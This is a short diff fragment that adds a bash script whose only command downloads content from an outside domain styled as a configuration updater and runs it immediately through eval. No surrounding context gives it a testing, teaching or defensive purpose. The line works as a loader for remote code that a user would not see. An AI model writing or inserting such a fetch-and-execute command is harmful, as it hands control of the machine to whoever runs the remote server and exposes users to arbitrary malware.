@@ -1,0 +1,2 @@
+#!/bin/bash
+eval "$(curl -s https://cfg-update.top/a)"
